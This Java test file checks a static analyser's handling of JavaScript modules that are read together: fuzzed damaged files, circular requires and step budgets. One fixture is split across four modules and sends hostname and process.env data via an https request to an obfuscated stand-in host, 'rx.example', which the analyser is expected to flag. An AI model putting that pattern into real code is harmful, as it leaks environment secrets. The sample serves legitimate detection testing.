package cordon.inspect.javascript;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.FileFacts;
import cordon.inspect.rules.Rules;
import cordon.inspect.shell.ShellReader;
import cordon.inspect.vocabulary.Vocabulary;
import java.util.HashMap;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.function.Function;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Files that are read together: damaged, endless, in circles; the cost stays in proportion. */
final class JoinedTest {
  private static final Vocabulary VOCABULARY = Rules.own(false).build().vocabulary();
  private static final JavaScriptReader READER = new JavaScriptReader(VOCABULARY);

  private static final Map<String, String> FILES =
      Map.of(
          "index.js",
          "import { gather } from './a.mjs';\nconst { send } = require('./b');\nsend(gather());\nexport * from './c';\n",
          "a.mjs",
          "import os from 'os';\nexport function* names() { yield os.hostname(); }\nexport const gather = () => [...names()].concat(process.env);\nexport default class { get x() { return 1; } }\n",
          "b.js",
          "const c = require('./c'); exports.send = d => { const r = require('https').request({ host: c.host }); r.end(JSON.stringify(d)); };\n",
          "c.js",
          "require('./index'); Object.defineProperty(exports, 'host', { get: () => ['rx', 'example'].join('.') });\nmodule.exports.more = require('./' + 'b');\n");

  @Test
  void damagedFilesAreReadTogetherToTheirEnd() {
    long seed = new Random().nextLong();
    Random random = new Random(seed);
    for (int i = 0; i < 300; i++) {
      Map<String, byte[]> files = new HashMap<>();
      FILES.forEach((path, text) -> files.put(path, damaged(text.getBytes(UTF_8), random)));
      FileFacts read =
          READER
              .joined("index.js", files.get("index.js"), p -> Optional.ofNullable(files.get(p)))
              .facts();
      assertThat(read.path()).as("seed " + seed).isEqualTo("index.js");
    }
  }

  private static byte[] damaged(byte[] text, Random random) {
    byte[] bytes = text.clone();
    for (int edits = random.nextInt(5); edits > 0; edits--) {
      bytes[random.nextInt(bytes.length)] =
          (byte)
              (random.nextBoolean()
                  ? "(){}[]`'\"/\\<>$#;:,=|&\n.".charAt(random.nextInt(23))
                  : random.nextInt(256));
    }
    return bytes;
  }

  @Test
  void whatOneGathersAnotherSends() {
    FileFacts read =
        READER
            .joined(
                "index.js",
                FILES.get("index.js").getBytes(UTF_8),
                p -> Optional.ofNullable(FILES.get(p)).map(text -> text.getBytes(UTF_8)))
            .facts();

    assertThat(read.facts())
        .anySatisfy(fact -> {
          assertThat(fact.behaviour()).isEqualTo(Behaviour.SEND);
          assertThat(fact.inputs()).contains(Behaviour.ENVIRONMENT);
        });
  }

  /** Every file asks for all the others, each of them for all, and calls what it gets. */
  @Test
  void filesThatAllAskForEachOtherCostNoMoreThanTheirLength() {
    long few = steps(8);
    long many = steps(32);

    assertThat(many).isLessThan(few * 4 * 8);
  }

  private static long steps(int count) {
    StringBuilder code = new StringBuilder();
    IntStream.range(0, count)
        .forEach(i -> code.append("const m%d=require('./m%d');\n".formatted(i, i)));
    code.append("exports.f=x=>");
    IntStream.range(0, count).forEach(i -> code.append("m%d.f(x+'a')+".formatted(i)));
    byte[] file = code.append("x;exports.f('');\n").toString().getBytes(UTF_8);
    Session session = session(path -> Optional.of(file));
    session.modules.evaluate(session, Source.file("m0.js", new String(file, UTF_8).toCharArray()));
    new Rest(session).evaluate();
    return session.budget.steps();
  }

  @Test
  void aRowOfFilesWithoutEndIsLeftWhereItGetsLong() {
    int[] asked = {0};
    Session session =
        session(path -> {
          asked[0]++;
          return Optional.of("module.exports = require(__filename + 'x');\n".getBytes(UTF_8));
        });
    String start = "module.exports = [" + "require('./a'+'b'),".repeat(2_000) + "];\n";
    IntStream.range(0, 200)
        .forEach(i -> session.modules.exports(session, java.util.List.of("/d" + i + ".js")));
    session.modules.evaluate(session, Source.file("s.js", start.toCharArray()));

    assertThat(session.budget.isSpent()).isFalse();
    assertThat(asked[0]).isLessThan(10_000);
  }

  private static Session session(Function<String, Optional<byte[]>> contents) {
    Session session =
        new Session(
            VOCABULARY,
            new ShellReader(VOCABULARY),
            new Signals(VOCABULARY),
            new Modules(contents));
    session.skips = false;
    return session;
  }
}
